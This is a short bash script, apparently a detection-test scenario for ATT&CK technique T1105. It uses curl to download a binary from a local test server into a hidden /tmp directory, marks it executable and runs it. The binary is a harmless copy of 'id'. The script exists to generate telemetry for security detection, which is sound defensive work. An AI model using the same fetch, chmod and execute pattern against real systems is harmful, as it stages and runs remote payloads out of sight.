#!/usr/bin/env bash
# Ingress tool transfer: curl downloads an ELF into a hidden directory under /tmp, chmod +x,
# then runs it.
. "$(dirname "$0")/../lib.sh"
scn_begin ingress-curl-hidden T1105
scn_require curl
scn_http_peer
cp /usr/bin/id "$SCN_WORK/srv/agent"
scn_mkdir "/tmp/.cache-$SCN_RUN_ID"
dest="/tmp/.cache-$SCN_RUN_ID/.agent"
curl -fsS --max-time 10 -o "$dest" "$SCN_URL/agent"
chmod +x "$dest"
"$dest" >"$SCN_WORK/out" &
key=$!
scn_wait_pid $key 10 || scn_fail "the payload did not finish"
grep -q 'uid=0' "$SCN_WORK/out" || scn_fail "the payload did not run"
scn_done $key
